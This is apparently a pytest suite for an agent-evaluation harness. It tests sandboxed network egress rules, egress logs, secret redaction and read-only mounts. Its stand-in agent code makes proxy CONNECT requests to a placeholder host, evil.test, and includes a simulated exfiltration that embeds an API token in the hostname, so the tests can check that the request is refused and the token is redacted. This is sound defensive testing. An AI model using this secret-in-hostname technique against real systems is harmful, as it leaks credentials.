"""The network of whole trials: what is held, what is seen, and what is told of it."""

from __future__ import annotations

import json
import os
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from tests.cli.test_eval import trials
from tests.conftest import git, trialbook
from tests.workflow.test_worker import outcome_of, with_agent

from trialbook.process import run
from trialbook_sandboxes.bubblewrap import BubblewrapSandbox

ASK = """
import os, socket
open('answer.txt', 'w').write('first 1')
def ask(target):
    s = socket.create_connection(('127.0.0.1', 3128), 10)
    s.sendall(b'CONNECT %s HTTP/1.1\\r\\n\\r\\n' % target.encode())
    print(target, s.recv(100).split()[1].decode())
"""


@pytest.fixture
def bubblewrap() -> None:
    able = BubblewrapSandbox().available(run)
    if not able.ok:
        if os.environ.get("CI"):
            pytest.fail(able.reason)
        pytest.skip(able.reason)


@pytest.fixture
def port() -> Iterator[int]:
    """A server of the host that says nothing."""

    def accept() -> None:
        while True:
            try:
                held.append(server.accept()[0])
            except OSError:
                return

    held: list[socket.socket] = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        thread = threading.Thread(target=accept, daemon=True)
        thread.start()
        yield server.getsockname()[1]
        server.shutdown(socket.SHUT_RDWR)
        thread.join(5)
    for connection in held:
        connection.close()


def trial_folder(ledger: Path) -> Path:
    (folder,) = (ledger / "runs/mini").glob("*/first/good/r1")
    return folder


@pytest.mark.slow
@pytest.mark.usefixtures("bubblewrap")
def test_what_was_reached_and_what_was_refused_is_on_record(
    ledger: Path, port: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("API_TOKEN", "tok-5f0c9a77e1d24b")
    code = ASK + (
        f"ask('localhost:{port}')\n"
        "ask('evil.test:443')\nask('evil.test:443')\n"
        "ask(os.environ['API_TOKEN'] + '.evil.test:443')\n"
        "print(os.environ['https_proxy'])\n"
    )
    network = f"network:\n  allow: ['localhost:{port}', api.test]\nsecrets: [API_TOKEN]\n"
    with_agent(ledger, code, more=network)
    record = outcome_of(ledger, "--sandbox", "bubblewrap")
    assert record["outcome"] == "accepted"
    isolation = record["isolation"]
    assert isinstance(isolation, dict)
    assert isolation["network_declared"] == f"allow localhost:{port} api.test"
    assert isolation["network_enforced"] is True
    egress = record["egress"]
    assert isinstance(egress, dict)
    assert (egress["allowed"], egress["refused"], egress["failed"]) == (1, 3, 0)
    assert egress["hosts"] == [f"localhost:{port}"]
    assert "evil.test:443" in egress["hosts_refused"]
    assert egress["log"] == "egress.jsonl"
    folder = trial_folder(ledger)
    text = (folder / "egress.jsonl").read_text()
    assert [json.loads(line)["verdict"] for line in text.splitlines()].count("refused") == 3
    assert "egress.jsonl" in record["artifacts"]  # type: ignore[operator]
    seen = record["sightings"]
    assert isinstance(seen, list)
    told = [one["detail"] for one in seen if one["kind"] == "network_refused"]
    assert "evil.test:443 was asked for 2 times, and refused: it is not listed" in told
    assert all(one["severity"] == "flag" for one in seen if one["kind"] == "network_refused")
    # What an agent sends as part of a name is redacted like everything else.
    for path in folder.rglob("*"):
        if path.is_file():
            assert b"tok-5f0c9a77e1d24b" not in path.read_bytes()
    assert git(ledger, "status", "--porcelain", "runs") == ""
    run_name = folder.parts[-4]
    assert "Forbidden hosts" in trialbook(ledger, "show", run_name).stdout
    shown = trialbook(ledger, "show", f"{run_name}/first/good/r1").stdout
    assert "4 requests: 1 let through, 3 refused, 0 failed" in shown
    trialbook(ledger, "verify")


@pytest.mark.slow
@pytest.mark.usefixtures("bubblewrap")
def test_a_configuration_may_say_that_a_refused_request_is_a_violation(ledger: Path) -> None:
    network = "network: {allow: [api.test], refused: violation}\n"
    with_agent(ledger, ASK + "ask('evil.test:443')\n", more=network)
    record = outcome_of(ledger, "--sandbox", "bubblewrap")
    assert record["outcome"] == "policy_violation"
    assert "evil.test:443" in str(record["reason"])
    trialbook(ledger, "verify")
    seen = record["sightings"]
    assert isinstance(seen, list)
    (one,) = [one for one in seen if one["kind"] == "network_refused"]
    assert one["severity"] == "violation"


@pytest.mark.slow
def test_where_nothing_holds_the_network_everything_says_so(ledger: Path) -> None:
    with_agent(ledger, "open('answer.txt', 'w').write('first 1')", more="network: none\n")
    done = trialbook(
        *(ledger, "eval", "mini", "-t", "first", "-c", "good", "-r", "1", "--sandbox", "none")
    )
    assert "network none: NOT ENFORCED" in done.stderr.splitlines()[0]
    (record,) = trials(ledger).values()
    assert record["egress"] is None
    run_name = trial_folder(ledger).parts[-4]
    assert "Network: not enforced" in trialbook(ledger, "show", run_name).stdout
    assert "NOT ENFORCED" in trialbook(ledger, "show", f"{run_name}/first/good/r1").stdout
    report = next((ledger / "runs/mini").glob("*/report.md")).read_text()
    assert "Network: not enforced" in report
    trialbook(ledger, "site", "build")
    page = next((ledger / "site/_build").rglob("good/r1.html")).read_text()
    assert '<dd class="no">none: NOT ENFORCED</dd>' in page


def test_the_host_s_own_network_is_told_plainly(ledger: Path) -> None:
    with_agent(ledger, "open('answer.txt', 'w').write('first 1')")
    outcome_of(ledger, "--sandbox", "none")
    run_name = trial_folder(ledger).parts[-4]
    assert "Network: open" in trialbook(ledger, "show", run_name).stdout
    report = next((ledger / "runs/mini").glob("*/report.md")).read_text()
    assert "Network: open" in report
    assert "not enforced" not in report


@pytest.mark.parametrize(
    ("written", "told"),
    [
        ("'http://api.test'", "is no"),
        ("'127.1'", "is an address in an unusual notation"),
        ("'a.*.test'", "`*` may only stand first"),
        ("'api.test:99999'", "is no port"),
        ("[]", "allow"),
    ],
)
def test_a_list_with_a_mistake_is_told_with_its_place(
    ledger: Path, written: str, told: str
) -> None:
    allow = written if written == "[]" else f"[good.test, {written}]"
    with_agent(ledger, "pass", more=f"network:\n  allow: {allow}\n")
    done = trialbook(ledger, "suite", "check", "mini", check=None)
    assert done.returncode != 0
    assert told in done.stdout + done.stderr
    assert "suites/mini/configurations/good.yaml:4" in done.stdout + done.stderr


@pytest.mark.slow
@pytest.mark.usefixtures("bubblewrap")
def test_an_installed_client_can_be_shown_and_only_be_read(
    ledger: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    client = tmp_path_factory.mktemp("client")
    client.chmod(0o755)
    (client / "run.txt").write_text("first 1")
    code = (
        "import os\n"
        f"open('answer.txt', 'w').write(open({str(client / 'run.txt')!r}).read())\n"
        f"try: open({str(client / 'made')!r}, 'w'); print('OPEN')\n"
        "except OSError as error: print(error)\n"
    )
    with_agent(ledger, code, more=f"network: none\nreadable: [{client}]\n")
    record = outcome_of(ledger, "--sandbox", "bubblewrap")
    assert record["outcome"] == "accepted"
    assert not (client / "made").exists()
    plan = json.loads(next((ledger / "runs/mini").glob("*/plan.json")).read_text())
    assert plan["configurations"]["good"]["readable"] == [str(client)]
    with_agent(ledger, code, more=f"network: none\nreadable: [{ledger}]\n")
    done = trialbook(ledger, "eval", "mini", "-t", "first", "-c", "good", "-r", "1")
    assert done.returncode == 0
    last = max(trials(ledger).values(), key=lambda trial: str(trial["started"]))
    assert last["outcome"] == "environment_failure"
    assert "would show the agent what trialbook keeps" in str(last["reason"])
